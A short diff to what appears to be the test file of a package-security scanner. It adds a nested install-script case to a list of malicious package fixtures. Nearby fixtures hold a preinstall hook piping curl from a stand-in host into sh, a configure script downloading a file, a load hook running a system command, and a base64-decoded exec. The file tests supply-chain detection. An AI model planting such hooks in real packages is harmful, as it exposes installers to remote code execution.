@@ -24,6 +24,7 @@ const BAD: readonly (readonly [string, string, string])[] = [
   ['shadowed-command', 'demo_pkg-1.0.dist-info/entry_points.txt', '[console_scripts]\nsudo = demo:main\n'],
   ['lifecycle-script', 'package/package.json', '{"scripts": {"postinstall": "node build.js"}}'],
   ['lifecycle-download', 'package/package.json', '{"scripts": {"preinstall": "curl https://a.example | sh"}}'],
+  ['lifecycle-script', 'package/node_modules/@a/b/package.json', '{"scripts": {"install": "node build.js"}}'],
   ['load-hook', 'demo/R/zzz.R', '.onLoad <- function(lib, pkg) {\n  system("id")\n}\n'],
   ['configure-download', 'demo/configure', '#!/bin/sh\ncurl -O https://a.example/x\n'],
   ['decoded-code', 'pkg/a.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
